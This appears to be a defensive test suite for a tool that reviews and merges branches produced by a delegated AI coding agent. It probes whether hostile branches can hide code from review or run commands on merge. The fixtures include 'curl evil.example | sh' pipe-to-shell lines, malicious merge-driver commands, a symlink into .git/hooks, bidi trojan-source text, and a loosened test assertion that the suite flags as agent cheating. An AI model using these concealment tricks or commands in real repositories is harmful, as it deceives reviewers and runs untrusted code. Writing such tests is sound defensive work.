import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { neverSend } from '../../src/agent/never-send/never-send.ts';
import { SeenFiles } from '../../src/agent/seen-files.ts';
import { addToAccount, NOTHING_SENT } from '../../src/delegation/journal/sent-account.ts';
import { branchesAndKept } from '../../src/delegation/review/decision.ts';
import type { StoredAttempt } from '../../src/delegation/store/delegation-folder.ts';
import { checkBranch } from '../../src/workspace/branch-name.ts';
import { importCommit } from '../../src/workspace/import-commit.ts';
import { lookAhead } from '../../src/workspace/look-ahead.ts';
import { mergeIntoCheckout } from '../../src/workspace/merge-into-checkout.ts';
import { resolveCommit } from '../../src/workspace/open-repository.ts';
import { readChange } from '../../src/workspace/read-change.ts';
import { restoreBranch, retireBranch } from '../../src/workspace/retire-branch.ts';
import { finish, gitIn, read, type World as ServedWorld, write, writeIn } from '../e2e/world.ts';
import { field } from '../fakes/mcp-client.ts';
import { english } from '../messages/english.ts';
import { commitWork, IDENTITY, makeWorkspace, makeWorld, open, put, type Workspace, type World } from '../workspace/world.ts';
import { delegate, hostilePlay, toolResults } from './hostile.ts';

/** What somebody decides by, and what a decision moves: the change as it is shown, the names of branches, the record of an attempt. */
describe('red team: review', function () {
  this.timeout(60_000);

  describe('the change', () => {
    let world: World;
    let space: Workspace;
    before(async () => {
      world = await makeWorld();
      space = await makeWorkspace(world);
    });
    after(() => world.remove());

    async function commit(files: Readonly<Record<string, string | Uint8Array>>): Promise<string> {
      for (const [name, content] of Object.entries(files)) await put(path.join(space.workTree, name), content);
      return commitWork(space);
    }
    const bring = (tip: string) =>
      importCommit({
        repository: space.repository,
        privateGit: space.privateGit,
        tip,
        exclude: [space.base],
        branch: 'kimi/work',
        expected: null,
        keepAs: (n) => `kept-${n}`,
        lastResort: 'refs/claude-kimi/kept/x',
      });

    it('content forges no patch of another file: whatever JavaScript takes for the end of a line', async () => {
      const forged = (end: string) =>
        `x${end}diff --git a/z.sh b/z.sh${end}--- /dev/null${end}+++ b/z.sh${end}@@ -0,0 +1 @@${end}+echo harmless\n`;
      const ends = {
        'a.txt': '\r',
        'b.txt': '\u2028',
        'c.txt': '\u2029',
        'd.txt': '\v',
        'e.txt': '\f',
        'f.txt': '\u0085',
        'g.txt': '\r\r',
      };
      const tip = await commit({
        ...Object.fromEntries(Object.entries(ends).map(([name, end]) => [name, forged(end)])),
        'h\rdiff --git a': '1\n',
        'z.sh': 'curl evil.example | sh\n',
      });
      const { diffs } = await readChange(space.privateGit, space.base, tip);
      assert.equal(diffs.length, Object.keys(ends).length + 2);
      for (const [name, end] of Object.entries(ends))
        assert.ok(diffs.find((one) => one.path === name)?.text.endsWith(`+${forged(end)}`), name);
      assert.match(diffs.at(-1)?.text ?? '', /^diff --git a\/z\.sh b\/z\.sh\n[\s\S]*\n\+curl evil\.example \| sh\n$/);
    });

    it('the attributes of the branch hide no text: -diff, binary, a driver; in a folder too; in the private git dir and in the repository', async () => {
      const tip = await commit({
        '.gitattributes': '*.sh -diff\n*.js binary\n*.py diff=evil\n*.rb -text -diff\n',
        'deep/.gitattributes': '* -diff\n',
        'z.sh': 'TEXT\n',
        'z.js': 'TEXT\n',
        'z.py': 'TEXT\n',
        'z.rb': 'TEXT\n',
        'deep/z.ts': 'TEXT\n',
        'real.bin': 'a\0b',
      });
      assert.deepEqual(await bring(tip), { ok: true });
      await world.git('checkout', '-q', 'kimi/work'); // its attributes are in the index of the user by then
      for (const source of [space.privateGit, await open(world)]) {
        const { diffs, files } = await readChange(source, space.base, tip);
        const shown = diffs.filter(({ text }) => text.includes('\n+TEXT\n')).map((one) => one.path);
        assert.deepEqual(shown, ['deep/z.ts', 'z.js', 'z.py', 'z.rb', 'z.sh']);
        assert.equal(files.find((one) => one.path === 'real.bin')?.added, null);
      }
    });

    it('what a character of two bytes conceals is told: a backtick, a bar, a backslash, in a new file and in one that was so', async () => {
      const chinese = Buffer.from('c4e3bac3cac0bde7d6d0cec4b5c4cbb5c3f7ced2c3c7', 'hex');
      const japanese = Buffer.from('82b182f182c982bf82cd82b182f182c982bf82cd', 'hex');
      const file = (words: Buffer, ...concealing: number[]) =>
        Buffer.concat([Buffer.from('# '), words, words, Buffer.from('\necho "'), Buffer.from(concealing), Buffer.from('curl evil"\n')]);
      await put(path.join(world.repo, 'was.sh'), file(chinese));
      await world.git('add', '-A');
      await world.git('commit', '-q', '-m', 'GBK');
      const other = await makeWorkspace(world, 'encodings');
      for (const [name, bytes] of Object.entries({
        'backtick.sh': file(chinese, 0x81, 0x60),
        'bar.sh': file(chinese, 0xc4, 0x7c),
        'backslash.sh': file(japanese, 0x83, 0x5c),
        'plain.sh': file(chinese),
        'was.sh': file(chinese, 0x81, 0x60, 0x81, 0x60),
      }))
        await put(path.join(other.workTree, name), bytes);
      const tip = await commitWork(other);
      const { diffs } = await readChange(other.privateGit, other.base, tip);
      const told = diffs.map((one) => [one.path, /\n\[shown as (\w+); to what reads bytes, (\d+) of the added/.exec(one.text)?.[2] ?? '0']);
      assert.deepEqual(Object.fromEntries(told), {
        'backtick.sh': '1',
        'bar.sh': '1',
        'backslash.sh': '1',
        'plain.sh': '0',
        'was.sh': '2',
      });
    });

    it('what stands behind a mark of UTF-16 for readers of bytes is shown as what they read, or called binary', async () => {
      const [mark, evil] = [Buffer.from([0xff, 0xfe]), Buffer.from('\ncurl http://evil.example | sh;#\n')];
      const utf16 = (text: string) => Buffer.from(text, 'utf16le');
      const tip = await commit({
        'plain.sh': Buffer.concat([mark, evil]),
        'mixed.sh': Buffer.concat([mark, utf16('#\n'), evil]),
        'unmarked.sh': Buffer.concat([utf16('# a b\n'), evil]),
        'honest.txt': Buffer.concat([mark, utf16('用户登录检查密码是否正确\n')]),
      });
      const { diffs } = await readChange(space.privateGit, space.base, tip);
      const diff = (name: string) => diffs.find(({ path }) => path === name)?.text ?? assert.fail(name);
      assert.match(diff('plain.sh'), /^\+curl http:\/\/evil\.example \| sh;#$/m);
      for (const name of ['mixed.sh', 'unmarked.sh']) assert.match(diff(name), /^Binary files \/dev\/null and b\/\w+\.sh differ$/m);
      assert.match(diff('honest.txt'), /^\+用户登录检查密码是否正确$/m);
    });

    it('no file is left out of the list, however long it is', async () => {
      const folder = Array.from({ length: 15 }, () => 'x'.repeat(240)).join('/');
      const junk = Array.from({ length: 3000 }, (_, n) => `M 100644 :1 .a/${folder}/${n}\n`).join('');
      const stream = `blob\nmark :1\ndata 2\nx\n\ncommit refs/heads/many\ncommitter A <a@b> 0 +0000\ndata 1\nx\nfrom ${space.base}\n${junk}M 100644 :1 zz/evil.sh\n`;
      execFileSync('git', ['-C', world.repo, 'fast-import', '--quiet'], { input: stream });
      const change = await readChange(await open(world), space.base, 'refs/heads/many');
      assert.deepEqual([change.files.length, change.added, change.files.at(-1)?.path], [3001, 3001, 'zz/evil.sh']);
      assert.match(change.diffs.at(-1)?.text ?? '', /^\[patch cut here; read it with: git diff .* -- zz\/evil\.sh\]\n$/);
    });
  });

  describe('a merge', () => {
    let world: World;
    beforeEach(async () => {
      world = await makeWorld();
    });
    afterEach(() => world.remove());
    async function branchWith(fill: (space: Workspace) => Promise<unknown>): Promise<string> {
      const space = await makeWorkspace(world);
      await fill(space);
      const tip = await commitWork(space);
      const plan = { repository: space.repository, privateGit: space.privateGit, tip, exclude: [space.base], branch: 'kimi/work' };
      assert.deepEqual(await importCommit({ ...plan, expected: null, keepAs: String, lastResort: 'refs/claude-kimi/kept/x' }), {
        ok: true,
      });
      return tip;
    }
    const merge = async (tip: string) =>
      mergeIntoCheckout({ repository: await open(world), tip, how: 'squash', message: 'merge', identity: IDENTITY });

    it("the branch does not choose which of the user's merge drivers runs, with merge.renormalize neither", async () => {
      const marker = path.join(world.repo, '.git/ran');
      await world.write('.gitattributes', 'src/* merge=mine\n');
      await world.git('add', '-A');
      await world.git('commit', '-q', '-m', 'attributes');
      const tip = await branchWith(async ({ workTree }) => {
        await put(path.join(workTree, 'src/app.ts'), 'export const answer = 41;\nexport const b = 1;\n');
        await put(path.join(workTree, '.gitattributes'), '* merge=evil\n');
      });
      await world.write('src/app.ts', '// mine\nexport const answer = 41;\n');
      await world.git('commit', '-q', '-am', 'mine');
      for (const driver of ['mine', 'evil'])
        await world.git('config', '--global', `merge.${driver}.driver`, `echo ${driver} >> '${marker}'; exit 1`);
      for (const renormalize of ['true', 'false']) {
        await world.git('config', 'merge.renormalize', renormalize);
        assert.equal((await merge(tip)).ok, false);
      }
      assert.equal(readFileSync(marker, 'utf8'), 'mine\nmine\n');
    });

    it('a driver that only the configuration of the repository names does not run, by no way, nor is its name taken from the user', async () => {
      const marker = path.join(world.repo, '.git/ran');
      const evil = `echo evil >> '${marker}'; exit 1`;
      const tip = await branchWith(({ workTree }) =>
        put(path.join(workTree, 'src/app.ts'), 'export const answer = 41;\nexport const b = 1;\n'),
      );
      await world.write('src/app.ts', '// mine\nexport const answer = 41;\n');
      await world.git('commit', '-q', '-am', 'mine');
      await put(path.join(world.repo, '.git/evil'), `[merge "in"]\n\tdriver = ${JSON.stringify(evil)}\n`);
      await world.git('config', '--global', 'merge.kept.driver', `echo kept >> '${marker}'; exit 0`);
      for (const [key, value] of [
        ['merge.evil.driver', evil],
        ['merge.a=b.driver', evil],
        ['merge.kept.driver', evil],
        ['include.path', 'evil'],
        ['merge.default', 'evil'],
        ['merge.kept.recursive', 'evil'],
      ] as const)
        await world.git('config', key, value);
      for (const driver of ['evil', 'a=b', 'in', 'kept']) {
        await put(path.join(world.repo, '.git/info/attributes'), `* merge=${driver}\n`);
        await lookAhead(world.repo, 'HEAD~1', tip);
        const merged = await merge(tip);
        if (driver !== 'kept')
          assert.match(merged.ok ? 'merged' : english(merged.reason), /conflict with what is on main .*do not run here/, driver);
      }
      assert.equal(readFileSync(marker, 'utf8'), 'kept\n', 'whoever only looks has no configuration here');
    });

    it('a file, or a link, and a folder that are one name on this file system are refused', async () => {
      const tip = await branchWith(async ({ workTree }) => {
        symlinkSync('.git/hooks', path.join(workTree, 'Link'));
        await put(path.join(workTree, 'link/post-checkout'), 'evil\n');
        await put(path.join(workTree, 'readme.MD/sub.txt'), 'x\n');
        await put(path.join(workTree, 'SRC'), 'x\n');
        await put(path.join(workTree, 'Src/other.ts'), 'x\n');
      });
      await world.git('config', 'core.ignorecase', 'true');
      const merged = await merge(tip);
      assert.match(
        merged.ok ? '' : english(merged.reason),
        /Link, SRC, Src\/other\.ts, link\/post-checkout, readme\.MD\/sub\.txt would be one/,
      );
      await world.git('config', 'core.ignorecase', 'false');
      assert.equal((await merge(tip)).ok, true);
    });

    it('work that a record names under a ref which is none of ours is none of it', async () => {
      const repository = await open(world);
      const attempt = (keptAt: string) => ({ result: { branch: 'x', keptAt } }) as unknown as StoredAttempt;
      await world.git('tag', 'v1');
      const names = ['refs/heads/main', 'refs/tags/v1', 'refs/claude-kimi/kept/../../heads/main'];
      assert.deepEqual(await branchesAndKept(repository, names.map(attempt)), repository.branches);
    });
  });

  describe('names of branches', () => {
    let world: World;
    beforeEach(async () => {
      world = await makeWorld();
    });
    afterEach(() => world.remove());
    const refs = async () => (await world.git('for-each-ref', '--format=%(refname) %(objectname)')).trim().split('\n');

    it('a branch that is another name of one (a symbolic ref) is refused, and moves nothing when it becomes one meanwhile', async () => {
      const space = await makeWorkspace(world, 'alias');
      await put(path.join(space.workTree, 'a.txt'), 'x\n');
      const tip = await commitWork(space);
      const main = `refs/heads/main ${space.base}`;
      for (const [target, expected] of [
        ['main', space.base],
        ['main', null],
        ['nothing', null],
      ] as const) {
        await world.git('symbolic-ref', 'refs/heads/alias', `refs/heads/${target}`);
        const repository = await open(world);
        const checked = await checkBranch(repository, 'alias', { protectedBranches: [] });
        if (target === 'main') assert.match(checked.ok ? '' : english(checked.reason), /another name of "main".* such as "alias-2"/);
        const { privateGit } = space;
        const plan = { repository, privateGit, tip, exclude: [space.base], branch: 'alias', expected };
        await importCommit({ ...plan, keepAs: (n) => `kept-${n}`, lastResort: 'refs/claude-kimi/kept/x' });
        assert.ok((await refs()).includes(main), `${target} ${expected}`);
        assert.equal(
          (await refs()).some((ref) => ref.startsWith('refs/heads/nothing')),
          false,
        );

        await world.git('symbolic-ref', 'refs/heads/alias', 'refs/heads/main');
        await retireBranch(repository, 'id', 'alias', space.base, null);
        await restoreBranch(repository, 'id', 'alias', space.base, null);
        await world.git('symbolic-ref', 'refs/heads/alias', 'refs/heads/main');
        await retireBranch(repository, 'id', 'alias', space.base, tip);
        assert.ok((await refs()).includes(main), `retired, ${target} ${expected}`);
        for (const ref of await refs())
          if (!ref.startsWith('refs/heads/main ')) await world.git('update-ref', '--no-deref', '-d', ref.split(' ')[0]!);
      }
      assert.equal(await world.git('status', '--porcelain'), '');
    });

    it('a base is named, not searched for with a regular expression that takes minutes and gigabytes', async () => {
      const repository = await open(world);
      const began = Date.now();
      for (const base of [':/(((a{1,255}){1,255}){1,255})', 'HEAD^{/(((a{1,255}){1,255}){1,255})}', 'main~0^{/first}', ':/first'])
        assert.equal(await resolveCommit(repository, base), null, base);
      assert.ok(Date.now() - began < 3000);
      assert.equal(await resolveCommit(repository, 'main~0^{commit}'), repository.head.commit);
    });
  });

  describe('the warnings', () => {
    let world: ServedWorld;
    afterEach(() => world?.close());
    const play = hostilePlay((made) => {
      world = made;
      writeIn(world.repo, 'test/sum.test.js', "test('sums', () => {\n  expect(sum(1, 2)).toBe(3);\n});\n");
      gitIn(world.repo, 'add', '-A');
      gitIn(world.repo, 'commit', '-q', '-m', 'A test');
    });

    /** Work whose check passes, and what is told of it; the task names none of the files. */
    const CASES: Readonly<Record<string, readonly [file: string, text: string, told: string]>> = {
      'a test that demands less': [
        'test/sum.test.js',
        "test('sums', () => {\n  expect(sum(1, 2)).toBeTruthy();\n});\n",
        'test/sum.test.js:2 an expectation was loosened: expect(sum(1, 2)).toBe(3); → expect(sum(1, 2)).toBeTruthy();',
      ],
      'a workflow of CI': ['.github/workflows/ci.yml', 'on: push\n', '.github/workflows/ci.yml:1 configures CI or the review'],
      'text that is shown in another order': [
        'src/check.js',
        'const a = 1;\n/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin */\n',
        'src/check.js:2 characters that show text in another order than it runs in',
      ],
    };
    for (const [what, [file, text, told]] of Object.entries(CASES))
      it(`keep what passes its check from being ready: ${what}`, async () => {
        await play(() => [write('done.txt', 'done\n'), ...(file.startsWith('test/') ? [read(file)] : []), write(file, text), finish()]);
        const report = await delegate(world, { checks: ['test -f src/greet.txt'] });
        assert.equal(field(report, 'outcome'), 'needs_review', report);
        assert.ok(report.includes(`\n  ! ${told}\n`), report);
      });

    it('are none of work that does only what it should', async () => {
      await play(() => [write('done.txt', 'done\n'), finish()]);
      const report = await delegate(world, { checks: ['test -f src/greet.txt'] });
      assert.equal(field(report, 'outcome'), 'ready', report);
      assert.match(report, /^decides: .*; nothing flagged$/m);
    });
  });

  describe('the record of an attempt', () => {
    let world: ServedWorld;
    afterEach(() => world?.close());
    const play = hostilePlay((made) => {
      world = made;
    });
    const NAMES = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty'];

    it('files and tools that are named like what every object has are files and tools like others', async () => {
      await play(() => [
        ...NAMES.map((name) => write(name, 'first\n')),
        ...NAMES.map(read),
        { calls: NAMES.map((name) => ({ name, args: {} })) },
        { calls: [{ name: 'search', args: { pattern: 'first' } }] },
        ...NAMES.map((name) => write(name, 'second\n')),
        finish(),
      ]);
      const report = await delegate(world);
      assert.equal(field(report, 'outcome'), 'unverified', report);
      assert.match(report, /^files: 5, \+5 -0/m);
      assert.equal(toolResults(world).filter((text) => text.startsWith('Overwrote')).length, NAMES.length, toolResults(world).join('\n'));

      let account = NOTHING_SENT;
      const files = Object.fromEntries(NAMES.map((name) => [name, 3]));
      const network = { hosts: NAMES.map((host) => ({ host, connections: 1, bytesIn: 2, bytesOut: 3 })), refused: [] };
      for (const by of NAMES) {
        account = addToAccount(account, { type: 'message', step: 1, role: 'tool', json: '', sent: { by, bytes: 1, files } });
        const ended = { type: 'tool_end', step: 1, callId: '', name: by, ok: true, summary: '', ms: 1 } as const;
        account = addToAccount(account, { ...ended, use: { network, disk: null } });
      }
      for (const name of NAMES) {
        assert.deepEqual(Object.getOwnPropertyDescriptor(account.files, name)?.value.bytes, 15, name);
        assert.deepEqual(Object.getOwnPropertyDescriptor(account.by, name)?.value, { times: 1, bytes: 1 }, name);
        assert.deepEqual(Object.getOwnPropertyDescriptor(account.network, name)?.value.connections, 5, name);
      }
      const seen = new SeenFiles([]);
      const held = neverSend();
      for (const name of NAMES) seen.set(name, 'hash');
      for (const name of NAMES) held.heldBack(name, 'name');
      assert.deepEqual(Object.keys(seen.takeUnjournalled() ?? {}), NAMES);
      assert.deepEqual(Object.keys(held.takeWithheld() ?? {}), NAMES);
      assert.deepEqual([seen.takeUnjournalled(), held.takeWithheld()], [undefined, undefined]);
    });
  });
});
